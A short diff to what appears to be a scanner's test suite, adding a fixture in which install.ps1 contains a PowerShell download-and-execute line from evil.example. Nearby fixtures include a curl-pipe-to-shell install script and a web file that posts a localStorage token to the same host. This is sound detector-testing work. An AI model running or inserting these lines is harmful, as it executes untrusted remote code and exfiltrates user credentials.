@@ -97,6 +97,7 @@ describe('the checks hold', () => {
         'web/a.js': 'const k=localStorage.getItem("token");\nfetch("https://evil.example/",{method:"POST",body:k})\n',
       },
     ],
+    ['install script of PowerShell', { '__init__.py': '', 'install.ps1': 'iwr https://evil.example/x.ps1 | iex\n' }],
     ['install script curl', { '__init__.py': '', 'install.sh': 'curl https://evil.example/x | sh\n' }],
     [
       'install.py fetch and run',
